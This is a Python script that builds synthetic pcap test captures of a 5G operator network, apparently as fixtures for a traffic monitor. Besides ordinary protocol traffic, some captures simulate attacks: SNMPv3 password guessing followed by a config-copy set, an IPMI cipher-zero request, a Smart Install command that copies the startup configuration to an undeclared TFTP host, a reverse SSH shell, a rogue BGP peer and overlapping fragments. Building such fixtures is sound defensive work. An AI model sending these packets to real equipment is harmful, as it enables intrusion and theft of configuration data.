#!/usr/bin/env python3
"""craft.py FOLDER: the captures that no program here can make, byte for byte the same each time.

Constants: GTP-U TS 29.281, PDU session container TS 38.415, SCTP RFC 9260 with payload protocol identifiers 60 (NGAP, TS 38.412) and
46 (Diameter, RFC 6733), GRE RFC 2784, VXLAN RFC 7348, MPLS RFC 3032, SNMP RFC 3416, WireGuard: its white paper, section 5.4.
"""
import os
import struct
import sys

import volumes
from packets import (TcpTalk, address, ethernet, fragment, icmp_echo, ipv4, mpls, sctp, sctp_chunk, sctp_data, stable, tcp, udp, vlan, write)

T0 = 1790000000
GNB, AMF, UPF, ROUTER, GUEST = '192.0.2.17', '192.0.2.65', '192.0.2.66', '192.0.2.1', '192.0.2.200'
LISTED, CLOUD, HSS, TAC = '198.51.100.7', '203.0.113.220', '192.0.2.70', '203.0.113.9'
EMS = '192.0.2.100'
UE, SITE = '100.64.3.7', '203.0.113.230'  # a subscriber, and a site on the Internet that it visits
NEIGHBOUR = '100.64.9.200'  # another subscriber
MIDNIGHT = T0 - T0 % 86400


def frame(src, dst, packet):
    return ethernet(src, dst, 0x0800, packet)


def association(client, server, sport, dport, messages, t0=T0, named=((), ())):
    """An SCTP association: four-way handshake, MESSAGES (side, ppid, payload) each acknowledged, shutdown. Both ends name their addresses of
    NAMED (IPv4) in INIT and INIT ACK."""
    tag = [stable(client + server), stable(server + client)]
    tsn = [tag[0] & 0xffffff, tag[1] & 0xffffff]
    ends = [(client, sport), (server, dport)]

    def say(side, t, *chunks):
        (src, sp), (dst, dp) = ends[side], ends[1 - side]
        verification = 0 if chunks[0][0] == 1 else tag[1 - side]
        return t, frame(src, dst, sctp(src, dst, sp, dp, verification, *chunks))

    def init(side):
        addresses = b''.join(struct.pack('>HH', 5, 8) + address(a) for a in named[side])
        return struct.pack('>IIHHI', tag[side], 106496, 10, 10, tsn[side]) + addresses

    cookie = bytes(range(64))
    yield say(0, t0, sctp_chunk(1, 0, init(0)))
    yield say(1, t0 + 0.001, sctp_chunk(2, 0, init(1) + struct.pack('>HH', 7, 68) + cookie))
    yield say(0, t0 + 0.002, sctp_chunk(10, 0, cookie))
    yield say(1, t0 + 0.003, sctp_chunk(11, 0, b''))
    t = t0 + 0.01
    for side, ppid, payload in messages:
        yield say(side, t, sctp_data(tsn[side], ppid, payload))
        yield say(1 - side, t + 0.002, sctp_chunk(3, 0, struct.pack('>IIHH', tsn[side], 106496, 0, 0)))
        tsn[side] += 1
        t += 0.2
    yield say(0, t, sctp_chunk(7, 0, struct.pack('>I', tsn[1] - 1)))
    yield say(1, t + 0.001, sctp_chunk(8, 0, b''))
    yield say(0, t + 0.002, sctp_chunk(14, 0, b''))


# NGSetupRequest and NGSetupResponse (TS 38.413 §9.2.6) for PLMN 001/01: network elements introduce themselves, no subscriber is named.
NG_SETUP = bytes.fromhex('00150035000004001b00080000f110100001020052400903006578616d706c65'
                         '00660010000000000100' '00f110' '0000' '1008010203' '0015400140')
NG_SETUP_ANSWER = bytes.fromhex('2015002c000004' '00010005' '0100616d66' '00600008' '000000f110cafe00' '00564001ff'
                                '0050000b' '00' '00f110' '0000' '1008010203')


def ngap():
    return association(GNB, AMF, 38412, 38412, [(0, 60, NG_SETUP), (1, 60, NG_SETUP_ANSWER)])


def ngap_second():
    """The second base station, which its site file puts into a zone that denies its supplier."""
    return association('192.0.2.18', AMF, 38412, 38412, [(0, 60, NG_SETUP), (1, 60, NG_SETUP_ANSWER)])


def ngap_to_listed():
    return association(GNB, LISTED, 38412, 38412, [(0, 60, NG_SETUP), (1, 60, NG_SETUP_ANSWER)])


def sctp_names_listed():
    """The AMF says in its INIT ACK that it can be reached in a listed network, too."""
    return association(GNB, AMF, 38412, 38412, [(0, 60, NG_SETUP), (1, 60, NG_SETUP_ANSWER)], named=((), (AMF, LISTED)))


def sctp_names_guest():
    """The AMF says in its INIT ACK that it can be reached at an address inside that nobody declared; the base station names its own."""
    return association(GNB, AMF, 38412, 38412, [(0, 60, NG_SETUP), (1, 60, NG_SETUP_ANSWER)], named=((GNB,), (AMF, GUEST)))


def avp(code, payload):
    return struct.pack('>II', code, 0x40 << 24 | 8 + len(payload)) + payload + b'\0' * (-len(payload) % 4)


def diameter(command, request, hop, *avps):
    body = b''.join(avps)
    return struct.pack('>IIIII', 1 << 24 | 20 + len(body), (0x80 if request else 0) << 24 | command, 0, hop, hop) + body


def diameter_messages():
    me = avp(264, b'mme.example') + avp(296, b'example')
    other = avp(264, b'hss.example') + avp(296, b'example')
    ok = avp(268, struct.pack('>I', 2001))
    return [(0, diameter(257, True, 1, me)), (1, diameter(257, False, 1, ok, other)),
            (0, diameter(280, True, 2, me)), (1, diameter(280, False, 2, ok, other))]


def diameter_sctp():
    return association('192.0.2.68', HSS, 36868, 3868, [(side, 46, m) for side, m in diameter_messages()])


def diameter_tcp():
    return TcpTalk('192.0.2.68', HSS, 36869, 3868, 1000).run(T0, diameter_messages())


def diameter_from_guest():
    """A host that nobody declared introduces itself to the subscriber server."""
    return association(GUEST, HSS, 36868, 3868, [(side, 46, m) for side, m in diameter_messages()])


def diameter_core_from_outside():
    """A node on the Internet introduces itself to the subscriber server and asks for a subscriber's data as an application server does (Sh,
    3GPP TS 29.329); who is asked about is not said."""
    me = avp(264, b'as.foreign.example') + avp(296, b'foreign.example')
    other = avp(264, b'hss.example') + avp(296, b'example')
    question = diameter(306, True, 2, avp(263, b'as.foreign.example;1;1'), me, avp(283, b'example'))
    question = question[:8] + struct.pack('>I', 16777217) + question[12:]
    answer = diameter(306, False, 2, avp(263, b'as.foreign.example;1;1'), avp(268, struct.pack('>I', 2001)), other)
    answer = answer[:8] + struct.pack('>I', 16777217) + answer[12:]
    talk = [(0, diameter(257, True, 1, me)), (1, diameter(257, False, 1, avp(268, struct.pack('>I', 2001)), other)), (0, question), (1, answer)]
    return association(CLOUD, HSS, 36870, 3868, [(side, 46, m) for side, m in talk])


def gtpu(kind, teid, payload, extension=False):
    flags = 0x34 if extension else 0x32 if kind in (1, 2) else 0x30
    extra = struct.pack('>HBB', 0, 0, 0x85) + bytes([1, 0x10, 9, 0]) if extension else b'\0\0\0\0' if kind in (1, 2) else b''
    return struct.pack('>BBHI', flags, kind, len(extra) + len(payload), teid) + extra + payload


def user_plane():
    """GTP-U between base station and UPF: an echo, then a subscriber's DNS look-up and web page inside."""
    def outer(src, dst, payload):
        return frame(src, dst, udp(src, dst, 2152, 2152, payload))

    yield T0, outer(GNB, UPF, gtpu(1, 0, b''))
    yield T0 + 0.001, outer(UPF, GNB, gtpu(2, 0, b'\x0e\0'))
    question = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + b'\x07private\x0asubscriber\x07example\0\0\1\0\1'
    yield T0 + 0.1, outer(GNB, UPF, gtpu(255, 0x1001, udp(UE, SITE, 40000, 53, question), True))
    request = b'GET /private HTTP/1.1\r\nHost: private.subscriber.example\r\nUser-Agent: subscriber\r\n\r\n'
    talk = [tcp(UE, SITE, 40001, 80, 0x02, 1, 0), tcp(SITE, UE, 80, 40001, 0x12, 9, 2), tcp(UE, SITE, 40001, 80, 0x10, 2, 10),
            tcp(UE, SITE, 40001, 80, 0x18, 2, 10, request), tcp(SITE, UE, 80, 40001, 0x18, 10, 2 + len(request), b'HTTP/1.1 200 OK\r\n\r\n')]
    for i, packet in enumerate(talk):
        up = packet[12:16] == bytes([100, 64, 3, 7])
        src, dst = (GNB, UPF) if up else (UPF, GNB)
        yield T0 + 0.2 + i / 100, outer(src, dst, gtpu(255, 0x1001 if up else 0x2001, packet, up))


def subscribers():
    """The same subscriber behind the UPF, in networks.subscribers: counted, never looked at."""
    yield T0, frame(UE, SITE, udp(UE, SITE, 40000, 53, b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\x07private\x0asubscriber\x07example\0\0\1\0\1'))
    yield from TcpTalk(UE, SITE, 40002, 80, 5000).run(T0 + 1, [
        (0, b'GET /private HTTP/1.1\r\nHost: private.subscriber.example\r\n\r\n'), (1, b'HTTP/1.1 204 No Content\r\n\r\n')])


def tagged():
    """One DNS look-up four times: in two VLAN tags, behind two MPLS labels, in a VXLAN and in a GRE tunnel between hosts."""
    question = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\x03www\x05cloud\x07example\0\0\1\0\1'
    inner = frame(GNB, '192.0.2.53', udp(GNB, '192.0.2.53', 40010, 53, question))
    yield T0, vlan(vlan(inner, 20), 100, 0x88a8)
    inner = frame(GNB, '192.0.2.53', udp(GNB, '192.0.2.53', 40011, 53, question))
    yield T0 + 1, mpls(inner, 16001, 24005)
    inner = frame(GNB, '192.0.2.53', udp(GNB, '192.0.2.53', 40012, 53, question))
    yield T0 + 2, frame(ROUTER, UPF, udp(ROUTER, UPF, 55000, 4789, struct.pack('>II', 0x08000000, 42 << 8) + inner))
    packet = udp(GNB, '192.0.2.53', 40013, 53, question)
    yield T0 + 3, frame(ROUTER, LISTED, ipv4(ROUTER, LISTED, 47, struct.pack('>HH', 0, 0x0800) + packet))


def tunnel_to_listed():
    """The router keeps a GRE tunnel to a listed network: keepalives both ways, a ping inside."""
    for i in range(6):
        ping = icmp_echo(ROUTER, LISTED, 8, 7, i, bytes(32))
        yield T0 + i, frame(ROUTER, LISTED, ipv4(ROUTER, LISTED, 47, struct.pack('>HH', 0, 0x0800) + ping))
        pong = icmp_echo(LISTED, ROUTER, 0, 7, i, bytes(32))
        yield T0 + i + 0.05, frame(LISTED, ROUTER, ipv4(LISTED, ROUTER, 47, struct.pack('>HH', 0, 0x0800) + pong))


def page(client, sport):
    body = b'<title>router-1</title>'
    answer = b'HTTP/1.1 200 OK\r\nServer: example\r\nContent-Length: %d\r\n\r\n%s' % (len(body), body)
    return TcpTalk(client, ROUTER, sport, 80, 7000).run(T0, [(0, b'GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n'), (1, answer)])


def page_to_outside():
    """The router shows its management page, in clear text, to somebody on the Internet."""
    return page(CLOUD, 40020)


def page_to_listed():
    """The router shows its management page to a listed network, which called it."""
    return page(LISTED, 40021)


def ber(tag, payload):
    return bytes([tag, len(payload)]) + payload


def snmp_v2c(kind, value):
    """A message of version 2c about sysName.0; its community is the word in clear text."""
    name = ber(0x30, ber(6, bytes([0x2b, 6, 1, 2, 1, 1, 5, 0])) + value)
    pdu = ber(kind, ber(2, b'\x2a') + ber(2, b'\0') + ber(2, b'\0') + ber(0x30, name))
    return ber(0x30, ber(2, b'\1') + ber(4, b'example') + pdu)


def snmp_from_outside():
    """Somebody on the Internet reads the router's name by SNMP with a community in clear text."""
    yield T0, frame(CLOUD, ROUTER, udp(CLOUD, ROUTER, 40022, 161, snmp_v2c(0xa0, ber(5, b''))))
    yield T0 + 0.001, frame(ROUTER, CLOUD, udp(ROUTER, CLOUD, 161, 40022, snmp_v2c(0xa2, ber(4, b'router-1'))))


def knocks():
    """Somebody on the Internet tries doors of the base station: one is shut, behind the other nobody answers."""
    yield T0, frame(CLOUD, GNB, tcp(CLOUD, GNB, 40023, 8443, 0x02, 8000, 0))
    yield T0 + 0.001, frame(GNB, CLOUD, tcp(GNB, CLOUD, 8443, 40023, 0x14, 0, 8001))
    for i in range(3):
        yield T0 + 1 + i, frame(CLOUD, GNB, tcp(CLOUD, GNB, 40024, 22, 0x02, 9000, 0))


def supplier_attempt(start):
    for i in range(3):
        yield start + i, frame(GNB, TAC, tcp(GNB, TAC, 40025, 443, 0x02, 10000, 0))


def supplier_unanswered():
    """The base station calls its supplier on a Monday and gets no answer."""
    return supplier_attempt(T0)


def supplier_unanswered_in_window():
    """The base station calls its supplier on a Tuesday, 22:30 in Warsaw, and gets no answer."""
    return supplier_attempt(1790109000)


def unknown_on_4434():
    """Where the router's policy lists TLS, on a port of its own, it opens a connection and closes it: what it was, nobody can say."""
    return TcpTalk(ROUTER, CLOUD, 40026, 4434, 11000).run(T0, [])


def wireguard():
    """The base station keeps a WireGuard tunnel to somebody on the Internet."""
    def noise(name, length):
        return b''.join(struct.pack('>I', stable('%s %d' % (name, i))) for i in range((length + 3) // 4))[:length]

    here, there = struct.pack('<I', 0x11223344), struct.pack('<I', 0x55667788)
    hello = b'\1\0\0\0' + here + noise('hello', 108) + noise('mac', 16) + bytes(16)
    answer = b'\2\0\0\0' + there + here + noise('answer', 48) + noise('mac of the answer', 16) + bytes(16)
    yield T0, frame(GNB, CLOUD, udp(GNB, CLOUD, 40027, 51820, hello))
    yield T0 + 0.02, frame(CLOUD, GNB, udp(CLOUD, GNB, 51820, 40027, answer))
    for i in range(4):
        for at, src, dst, ports, receiver in ((0.1, GNB, CLOUD, (40027, 51820), there), (0.12, CLOUD, GNB, (51820, 40027), here)):
            data = b'\4\0\0\0' + receiver + struct.pack('<Q', i) + noise('data %s %d' % (src, i), 96)
            yield T0 + i + at, frame(src, dst, udp(src, dst, *ports, data))


def fragments():
    """A long DNS answer in four fragments, the last one first; then a request from the Internet in fragments that contradict each other."""
    resolver, name = '192.0.2.53', b'\x05pools\x07example\0'
    question = name + struct.pack('>HH', 16, 1)
    text = b''.join(struct.pack('>HHHIH', 0xc00c, 16, 1, 300, 201) + b'\xc8' + bytes([97 + i]) * 200 for i in range(12))
    yield T0, frame(GNB, resolver, udp(GNB, resolver, 40030, 53, struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + question))
    answer = udp(resolver, GNB, 53, 40030, struct.pack('>HHHHHH', 0x1234, 0x8180, 1, 12, 0, 0) + question + text)
    cuts = list(range(0, len(answer) - 20, 720)) + [len(answer) - 20]
    for i, (start, end) in enumerate(reversed(list(zip(cuts, cuts[1:])))):
        yield T0 + 0.01 + i / 1000, frame(resolver, GNB, fragment(answer, start, end, 0x2222))
    innocent = udp(CLOUD, ROUTER, 40031, 161, snmp_v2c(0xa0, ber(5, b'')))
    other = innocent.replace(b'example', b'another')
    yield T0 + 1, frame(CLOUD, ROUTER, fragment(innocent, 0, 32, 0x3333))
    yield T0 + 1.001, frame(CLOUD, ROUTER, fragment(other, 8, 24, 0x3333))
    yield T0 + 1.002, frame(CLOUD, ROUTER, fragment(innocent, 32, len(innocent) - 20, 0x3333))


def overlap():
    """The same addresses and ports in three networks: behind VLAN tags and behind labels, each other by direction, and without a tag."""
    networks = ((b'\x03www\x05cloud\x07example', lambda f, up: vlan(f, 301 if up else 302)),
                (b'\x03hub\x07partner\x07example', lambda f, up: mpls(f, 16004 if up else 16005)),
                (b'\x04node\x05depot\x07example', lambda f, up: f))
    resolver = '192.0.2.53'
    for i, (name, wrap) in enumerate(networks):
        t = T0 + i / 1000
        question = struct.pack('>HHHHHH', 77 + i, 0x0100, 1, 0, 0, 0) + name + b'\0\0\1\0\1'
        record = struct.pack('>HHHIH', 0xc00c, 1, 1, 300, 4) + bytes([203, 0, 113, 220])
        answer = struct.pack('>HHHHHH', 77 + i, 0x8180, 1, 1, 0, 0) + question[12:] + record
        yield t, wrap(frame(GNB, resolver, udp(GNB, resolver, 40030, 53, question)), True)
        yield t + 0.0005, wrap(frame(resolver, GNB, udp(resolver, GNB, 53, 40030, answer)), False)
        for at, packet in TcpTalk(GNB, CLOUD, 40031, 4434, 12000 + i).run(t + 1, []):
            yield at, wrap(packet, packet[26:30] == bytes([192, 0, 2, 17]))

def user_plane_to_infrastructure():
    """Subscribers' packets in GTP-U: to the AMF, by NGAP's port and by SSH's; and, as they should be, to the Internet and to one another."""
    init = sctp(UE, AMF, 38412, 38412, 0, sctp_chunk(1, 0, struct.pack('>IIHHI', 0x01020304, 106496, 10, 10, 1)))
    for i, (teid, packet) in enumerate((
            (0x1001, udp(UE, SITE, 40000, 38412, b'private')), (0x1002, udp(UE, NEIGHBOUR, 40001, 22, b'private')),
            (0x1003, udp(UE, AMF, 40002, 38412, b'private')), (0x1004, tcp(UE, AMF, 40003, 22, 0x02, 1, 0)), (0x1005, init),
            (0x1006, tcp(UE, SITE, 40004, 22, 0x02, 1, 0)))):
        yield T0 + i, frame(GNB, UPF, udp(GNB, UPF, 2152, 2152, gtpu(255, teid, packet, True)))


def log_ins(number):
    """NUMBER log-ins by SSH from element management to the router, one a second; each (seconds, frame)."""
    for i in range(number):
        yield from TcpTalk(EMS, ROUTER, 42000 + i, 22, 13000 + i).run(T0 + i, [
            (1, b'SSH-2.0-OpenSSH_9.2\r\n'), (0, b'SSH-2.0-OpenSSH_9.2\r\n')])


def both_ways():
    """Twenty log-ins by SSH from element management to the router."""
    return log_ins(20)


def one_way():
    """The same twenty log-ins, of which the mirror shows what element management sends and nothing of what the router answers."""
    return ((at, packet) for at, packet in log_ins(20) if packet[26:30] == address(EMS))


def look_ups(start, number):
    """NUMBER look-ups in the site's resolver, two a second from START on."""
    resolver = '192.0.2.53'
    for i in range(number):
        name = b'\x03www\x05cloud\x07example\0\0\1\0\1'
        question = struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0) + name
        answer = struct.pack('>HHHHHH', i, 0x8180, 1, 1, 0, 0) + name + struct.pack('>HHHIH', 0xc00c, 1, 1, 300, 4) + address(CLOUD)
        yield start + i / 2, frame(GNB, resolver, udp(GNB, resolver, 43000 + i, 53, question))
        yield start + i / 2 + 0.001, frame(resolver, GNB, udp(resolver, GNB, 53, 43000 + i, answer))


def clock_set():
    """Look-ups by a clock that is set back by three hours, and after ten seconds right again; stamps are in the order of the packets."""
    yield from look_ups(T0, 20)
    yield from look_ups(T0 + 10 - 10800, 20)
    yield from look_ups(T0 + 20, 20)


def clock_right():
    """Look-ups by a clock that was never set: two hours of silence between them, and some packets that come late."""
    yield from look_ups(T0, 20)
    yield from look_ups(T0 + 7200, 20)
    yield from look_ups(T0 + 7200 + 5, 3)


def midnight():
    """Look-ups before and after midnight, UTC."""
    yield from look_ups(MIDNIGHT - 5, 6)
    yield from look_ups(MIDNIGHT + 5, 6)


def silent_day():
    """Look-ups before midnight, UTC, and none until a day later."""
    yield from look_ups(MIDNIGHT - 5, 6)
    yield from look_ups(MIDNIGHT + 86400 + 5, 6)


def tacacs_login(server, sport, hidden):
    """A login by TACACS+ (RFC 8907 §5): start, question for the password, the password, pass."""
    def packet(number, body):
        return struct.pack('>BBBBII', 0xc0, 1, number, 0 if hidden else 1, sport, len(body)) + body

    start = struct.pack('>BBBBBBBB', 1, 1, 1, 1, 5, 4, 4, 0) + b'noc-1' + b'tty0' + b'NMS1'
    reply = struct.pack('>BBHH', 5, 1, 9, 0) + b'Password:'
    more = struct.pack('>HHB', 6, 0, 0) + b'secret'
    done = struct.pack('>BBHH', 1, 0, 0, 0)
    texts = [start, reply, more, done]
    if hidden:
        texts = [bytes(b ^ stable('%d %d %d' % (sport, i, k)) & 0xff for k, b in enumerate(t)) for i, t in enumerate(texts)]
    return TcpTalk(ROUTER, server, sport, 49, 11000).run(T0, [(i % 2, packet(i + 1, t)) for i, t in enumerate(texts)])


def login_in_clear():
    """The router has logins checked by TACACS+: by a server inside, hidden; by one on the Internet, in clear text."""
    yield from tacacs_login('192.0.2.50', 40100, True)
    yield from tacacs_login(CLOUD, 40101, False)


def snmp(kind, oid, value, version=1):
    """A message about one object; of a set request what it is to be."""
    body = b'\x2b' + b''.join(bytes([arc]) if arc < 128 else bytes([0x80 | arc >> 7, arc & 127]) for arc in oid[2:])
    pdu = ber(kind, ber(2, b'\x2a') + ber(2, b'\0') + ber(2, b'\0') + ber(0x30, ber(0x30, ber(6, body) + value)))
    if version == 1:
        return ber(0x30, ber(2, b'\1') + ber(4, b'example') + pdu)
    head = ber(2, b'\x07') + ber(2, b'\5\xc0') + ber(4, b'\0') + ber(2, b'\3')
    return ber(0x30, ber(2, b'\3') + ber(0x30, head) + ber(4, b'') + ber(0x30, ber(4, b'') + ber(4, b'') + pdu))


def snmp_set():
    """A host that nobody declared guesses a password of SNMP version 3 at the router, then sets its table of copies; the element manager asks."""
    def both(at, src, sport, question, answer):
        yield at, frame(src, ROUTER, udp(src, ROUTER, sport, 161, question))
        yield at + 0.001, frame(ROUTER, src, udp(ROUTER, src, 161, sport, answer))

    wrong, asked, copies = (1, 3, 6, 1, 6, 3, 15, 1, 1, 5, 0), (1, 3, 6, 1, 2, 1, 1, 3, 0), (1, 3, 6, 1, 4, 1, 9, 9, 96, 1, 1, 1, 1, 14, 7)
    for i in range(20):
        yield from both(T0 + i, GUEST, 40102, snmp(0xa0, asked, ber(5, b''), 3), snmp(0xa8, wrong, ber(0x41, bytes([i + 1])), 3))
    yield from both(T0 + 30, GUEST, 40103, snmp(0xa3, copies, ber(2, b'\4')), snmp(0xa2, copies, ber(2, b'\4')))
    for i in range(20):
        yield from both(T0 + 60 + i, EMS, 40104, snmp(0xa0, asked, ber(5, b'')), snmp(0xa2, asked, ber(0x43, b'\1')))


def ipmi_cipher_zero():
    """A host that nobody declared asks the router's management processor for a session, with a proof of who it is, then with none."""
    def session(at, sport, algorithm):
        ask = bytes.fromhex('0600ff07' '0610' '00000000' '00000000' '2000' '00000000a4a3a2a0') + bytes([0, 0, 0, 8, algorithm, 0, 0, 0])
        ask += bytes([1, 0, 0, 8, algorithm, 0, 0, 0, 2, 0, 0, 8, algorithm, 0, 0, 0])
        yield at, frame(GUEST, ROUTER, udp(GUEST, ROUTER, sport, 623, ask))
        answer = bytes.fromhex('0600ff07' '0611' '00000000' '00000000' '2400' '00000400a4a3a2a0' '00010203') + ask[-24:]
        yield at + 0.001, frame(ROUTER, GUEST, udp(ROUTER, GUEST, 623, sport, answer))

    yield from session(T0, 40105, 1)
    yield from session(T0 + 10, 40106, 0)


def smart_install_inside():
    """A host that nobody declared asks the router by Smart Install for its configuration."""
    probe, answer = bytes.fromhex('000000010000000100000004000000080000000100000000'), bytes.fromhex('000000040000000000000003000000080000000100000000')
    copy = struct.pack('>IIII', 1, 1, 8, 48) + b'copy startup-config tftp://192.0.2.200/r1\0'.ljust(48, b'\0')
    return TcpTalk(GUEST, ROUTER, 40107, 4786, 12000).run(T0, [(0, probe), (1, answer), (0, copy)])


def cwmp():
    """Customer equipment reports by CWMP (TR-069) in clear text: to a server on the Internet, and to the element manager."""
    def inform(server, sport):
        body = (b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-2"><soap:Header>'
                b'<cwmp:ID>1</cwmp:ID></soap:Header><soap:Body><cwmp:Inform><MaxEnvelopes>1</MaxEnvelopes></cwmp:Inform></soap:Body></soap:Envelope>')
        head = b'POST /acs HTTP/1.1\r\nHost: acs.example\r\nContent-Type: text/xml\r\nSOAPAction: \r\nContent-Length: %d\r\n\r\n' % len(body)
        return TcpTalk(GUEST, server, sport, 7547, 13000).run(T0, [(0, head), (0, body), (1, b'HTTP/1.1 204 No Content\r\n\r\n')])

    yield from inform(CLOUD, 40108)
    yield from inform(EMS, 40109)


def shell_turned_around():
    """A host that nobody declared calls one on the Internet, which then logs in to it by SSH; another call is the ordinary way round."""
    def packet(number, body):
        padding = (-(6 + len(body)) - 4) % 8 + 4
        return struct.pack('>IBB', 2 + len(body) + padding, padding, number) + body + bytes(padding)

    def talk(sport, client):
        server = 1 - client
        methods = packet(20, bytes(16) + b'\0\0\0\x11curve25519-sha256' + bytes(41))
        return TcpTalk(GUEST, CLOUD, sport, 4334 if client else 22, 14000).run(T0 + client, [
            (client, b'SSH-2.0-client\r\n'), (server, b'SSH-2.0-server\r\n'), (client, methods), (server, methods),
            (client, packet(30, struct.pack('>I', 32) + bytes(32))), (server, packet(31, bytes(200))), (client, packet(21, b''))])

    yield from talk(40110, 0)
    yield from talk(40111, 1)


def bgp_stranger():
    """The router speaks BGP with a host on the Internet that nobody ordered."""
    def message(kind, body=b''):
        return b'\xff' * 16 + struct.pack('>HB', 19 + len(body), kind) + body

    def opened(number, router):
        return message(1, struct.pack('>BHH4sB', 4, number, 90, address(router), 0))

    return TcpTalk(CLOUD, ROUTER, 40112, 179, 15000).run(T0, [
        (0, opened(64666, CLOUD)), (1, opened(64500, ROUTER)), (0, message(4)), (1, message(4)), (0, message(2, bytes(4)))])


def six_in_four():
    """The router sends IPv6 inside IPv4 to a host on the Internet, which never answers; one packet goes to another host."""
    def packet(dst, i):
        inner = struct.pack('>IHBB', 6 << 28, 8 + 1000, 17, 64) + address('2001:db8:1::1') + address('2001:db8:bad::9')
        inner += struct.pack('>HHHH', 40113, 40113, 8 + 1000, 0xffff) + bytes(1000)
        return T0 + i, frame(ROUTER, dst, ipv4(ROUTER, dst, 41, inner))

    for i in range(12):
        yield packet(CLOUD, i)
    yield packet(TAC, 20)


def packets_sent():
    """The router sends captured packets on: to a host on the Internet as pcap, to the element manager as pcapng; a file comes in the same way."""
    def pcap():
        packet = frame(EMS, ROUTER, tcp(EMS, ROUTER, 40000, 49, 0x18, 1, 1, b'login'))
        head = struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 262144, 1)
        return head + struct.pack('<IIII', T0, 0, len(packet), len(packet)) + packet

    section = struct.pack('<IIIHHqI', 0x0a0d0d0a, 28, 0x1a2b3c4d, 1, 0, -1, 28)
    yield from TcpTalk(ROUTER, CLOUD, 40114, 57012, 16000).run(T0, [(0, pcap()), (0, pcap()[24:])])
    yield from TcpTalk(EMS, ROUTER, 40115, 57012, 17000).run(T0 + 10, [(1, section), (1, bytes(64))])
    yield from TcpTalk(TAC, ROUTER, 40116, 57012, 18000).run(T0 + 20, [(0, pcap())])


CAPTURES = {
    'ngap': ngap,
    'ngap-second': ngap_second,
    'ngap-to-listed': ngap_to_listed,
    'diameter-sctp': diameter_sctp,
    'diameter-tcp': diameter_tcp,
    'sctp-names-listed': sctp_names_listed,
    'sctp-names-guest': sctp_names_guest,
    'diameter-from-guest': diameter_from_guest,
    'diameter-core-from-outside': diameter_core_from_outside,
    'user-plane': user_plane,
    'subscribers': subscribers,
    'tagged': tagged,
    'tunnel-to-listed': tunnel_to_listed,
    'page-to-outside': page_to_outside,
    'page-to-listed': page_to_listed,
    'snmp-from-outside': snmp_from_outside,
    'knocks': knocks,
    'supplier-unanswered': supplier_unanswered,
    'supplier-unanswered-in-window': supplier_unanswered_in_window,
    'unknown-on-4434': unknown_on_4434,
    'wireguard': wireguard,
    'fragments': fragments,
    'overlap': overlap,
    'user-plane-to-infrastructure': user_plane_to_infrastructure,
    'both-ways': both_ways,
    'one-way': one_way,
    'clock-set': clock_set,
    'clock-right': clock_right,
    'midnight': midnight,
    'silent-day': silent_day,
    'login-in-clear': login_in_clear,
    'snmp-set': snmp_set,
    'ipmi-cipher-zero': ipmi_cipher_zero,
    'smart-install-inside': smart_install_inside,
    'cwmp': cwmp,
    'shell-turned-around': shell_turned_around,
    'bgp-stranger': bgp_stranger,
    'six-in-four': six_in_four,
    'packets-sent': packets_sent,
}
CAPTURES.update(volumes.CAPTURES)
AS_THEY_COME = ('clock-set', 'clock-right')  # of all others the packets are in order of time

if __name__ == '__main__':
    for name, make in CAPTURES.items():
        write(os.path.join(sys.argv[1], name + '.pcap'), make(), name not in AS_THEY_COME)
